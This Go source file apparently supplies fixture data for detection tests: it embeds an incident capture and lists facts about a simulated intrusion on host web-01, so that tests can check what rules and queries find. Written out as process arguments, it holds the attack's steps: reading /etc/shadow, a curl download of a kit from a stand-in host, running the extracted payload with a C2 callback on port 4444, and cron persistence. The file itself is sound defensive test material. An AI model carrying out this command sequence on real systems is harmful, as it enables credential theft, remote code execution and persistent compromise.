package samples

import (
	"bytes"
	_ "embed"
	"net/netip"
	"os"
	"path/filepath"
	"time"
)

// IncidentName is the file name of the incident capture.
const IncidentName = "incident.zst"

//go:embed incident.zst
var incident []byte

// Incident returns the incident capture file. The slice is the caller's.
func Incident() []byte { return bytes.Clone(incident) }

// RecordedName is the file name of the recorded capture.
const RecordedName = "recorded.zst"

//go:embed recorded.zst
var recorded []byte

// Recorded returns the capture that the eBPF recorder wrote while
// record-incident.sh played its incident on a real machine (see the
// package comment). The slice is the caller's.
func Recorded() []byte { return bytes.Clone(recorded) }

// WriteIncident writes the incident capture into dir as IncidentName, with
// mode 0600, replacing a file of that name, and returns its path. The file
// appears complete or not at all.
func WriteIncident(dir string) (string, error) { return writeFile(dir, IncidentName, incident) }

// WriteRecorded writes the recorded capture into dir as RecordedName, as
// WriteIncident does.
func WriteRecorded(dir string) (string, error) { return writeFile(dir, RecordedName, recorded) }

func writeFile(dir, name string, data []byte) (string, error) {
	path := filepath.Join(dir, name)
	tmp, err := os.CreateTemp(dir, "."+name+".*")
	if err != nil {
		return "", err
	}
	_, err = tmp.Write(data)
	if err == nil {
		err = tmp.Chmod(0o600)
	}
	if cerr := tmp.Close(); err == nil {
		err = cerr
	}
	if err == nil {
		err = os.Rename(tmp.Name(), path)
	}
	if err != nil {
		os.Remove(tmp.Name())
		return "", err
	}
	return path, nil
}

// Proc is one process of the incident as the capture's process table
// records it: the incarnation that its execve started. Every process of the
// story has a single thread, so its tid is its pid.
type Proc struct {
	Comm     string
	Pid      int64
	PPid     int64
	Exe      string   // argv[0], as proc.exe prints it
	ExePath  string   // the executable the kernel resolved (proc.exepath)
	Args     []string // argv[1:]
	Cwd      string
	UID      uint32
	GID      uint32
	LoginUID uint32 // NoLoginUID when unset
}

// NoLoginUID is the loginuid of processes that no login started.
const NoLoginUID = 0xFFFFFFFF

// Facts is what the incident capture holds, for tests that check what
// queries, chisels and rules find in it. See the package comment for the
// story.
type Facts struct {
	// The host, as the file's header describes it.
	Hostname string
	Kernel   string
	OS       string
	Arch     string
	CPUs     uint32

	// Start is the header's start time, just before the first event; End
	// is when the writer closed the file, just after the last one.
	Start, End time.Time

	LocalIP netip.Addr // web-01's address

	// The attacker's SSH connection, as sshd accepted it, and the name of
	// the accepted fd ("sip:sport->dip:dport", client first).
	SSHClient, SSHServer netip.AddrPort
	SSHConn              string

	// The download of the kit by curl.
	DownloadURL                   string
	DownloadLocal, DownloadServer netip.AddrPort
	DownloadConn                  string

	// The payload's connection to its command and control server.
	C2Local, C2Server netip.AddrPort
	C2Conn            string

	// AttackerIP is where the SSH session came from; RemoteIP serves the
	// kit and the command and control channel.
	AttackerIP, RemoteIP netip.Addr

	// The files the attack touches.
	ShadowFile  string // read by cat
	KitFile     string // written by curl, read by tar, deleted by the payload
	PayloadFile string // extracted by tar, made executable, executed
	DroppedFile string // the binary the payload writes below /usr/bin
	CronFile    string // the payload's persistence

	// The account the attacker logged in with, and the session's terminal.
	User    string
	UserUID uint32
	TTY     uint32 // the tty number in the process table (136<<8 | 1)
	TTYName string

	// The processes of the attack, in the order they start.
	SSHD      Proc // the listener; it predates the capture
	Shell     Proc // deploy's login shell, execed by sshd's session child
	Sudo      Proc
	RootShell Proc
	Cat       Proc
	Curl      Proc
	Tar       Proc
	Chmod     Proc
	Payload   Proc
}

// IncidentFacts returns the facts of the incident capture.
func IncidentFacts() Facts {
	local := netip.MustParseAddr("10.0.0.12")
	attacker := netip.MustParseAddr("203.0.113.50")
	remote := netip.MustParseAddr("198.51.100.7")
	start := time.Date(2026, 11, 26, 3, 14, 0, 0, time.UTC)
	const (
		kit     = "/tmp/.x/kit.tgz"
		payload = "/tmp/.x/payload"
		url     = "http://198.51.100.7/kit.tgz"
	)
	rootCmd := func(comm string, pid int64, exe string, args ...string) Proc {
		return Proc{Comm: comm, Pid: pid, PPid: 2246, Exe: comm, ExePath: exe, Args: args,
			Cwd: "/root", UID: 0, GID: 0, LoginUID: 1000}
	}
	f := Facts{
		Hostname: "web-01",
		Kernel:   "6.1.0-18-amd64",
		OS:       "Debian GNU/Linux 12 (bookworm)",
		Arch:     "x86_64",
		CPUs:     2,
		Start:    start,
		End:      start.Add(60 * time.Second),
		LocalIP:  local,

		SSHClient: netip.AddrPortFrom(attacker, 51514),
		SSHServer: netip.AddrPortFrom(local, 22),

		DownloadURL:    url,
		DownloadLocal:  netip.AddrPortFrom(local, 43210),
		DownloadServer: netip.AddrPortFrom(remote, 80),

		C2Local:  netip.AddrPortFrom(local, 43228),
		C2Server: netip.AddrPortFrom(remote, 4444),

		AttackerIP: attacker,
		RemoteIP:   remote,

		ShadowFile:  "/etc/shadow",
		KitFile:     kit,
		PayloadFile: payload,
		DroppedFile: "/usr/bin/.sshd-helper",
		CronFile:    "/etc/cron.d/update",

		User:    "deploy",
		UserUID: 1000,
		TTY:     136<<8 | 1,
		TTYName: "/dev/pts/1",

		SSHD: Proc{Comm: "sshd", Pid: 812, PPid: 1, Exe: "/usr/sbin/sshd", ExePath: "/usr/sbin/sshd",
			Args: []string{"-D"}, Cwd: "/", LoginUID: NoLoginUID},
		Shell: Proc{Comm: "bash", Pid: 2201, PPid: 812, Exe: "-bash", ExePath: "/usr/bin/bash",
			Cwd: "/home/deploy", UID: 1000, GID: 1000, LoginUID: 1000},
		Sudo: Proc{Comm: "sudo", Pid: 2245, PPid: 2201, Exe: "sudo", ExePath: "/usr/bin/sudo",
			Args: []string{"-i"}, Cwd: "/home/deploy", UID: 0, GID: 1000, LoginUID: 1000},
		RootShell: Proc{Comm: "bash", Pid: 2246, PPid: 2245, Exe: "-bash", ExePath: "/usr/bin/bash",
			Cwd: "/root", UID: 0, GID: 0, LoginUID: 1000},
		Cat:   rootCmd("cat", 2290, "/usr/bin/cat", "/etc/shadow"),
		Curl:  rootCmd("curl", 2301, "/usr/bin/curl", "-s", "-o", kit, url),
		Tar:   rootCmd("tar", 2315, "/usr/bin/tar", "-xzf", kit, "-C", "/tmp/.x"),
		Chmod: rootCmd("chmod", 2322, "/usr/bin/chmod", "755", payload),
		Payload: Proc{Comm: "payload", Pid: 2330, PPid: 2246, Exe: payload, ExePath: payload,
			Cwd: "/root", UID: 0, GID: 0, LoginUID: 1000},
	}
	f.SSHConn = connName(f.SSHClient, f.SSHServer)
	f.DownloadConn = connName(f.DownloadLocal, f.DownloadServer)
	f.C2Conn = connName(f.C2Local, f.C2Server)
	return f
}

// connName is sysdig's fd.name of a TCP/UDP connection: the client first.
func connName(client, server netip.AddrPort) string {
	return client.String() + "->" + server.String()
}
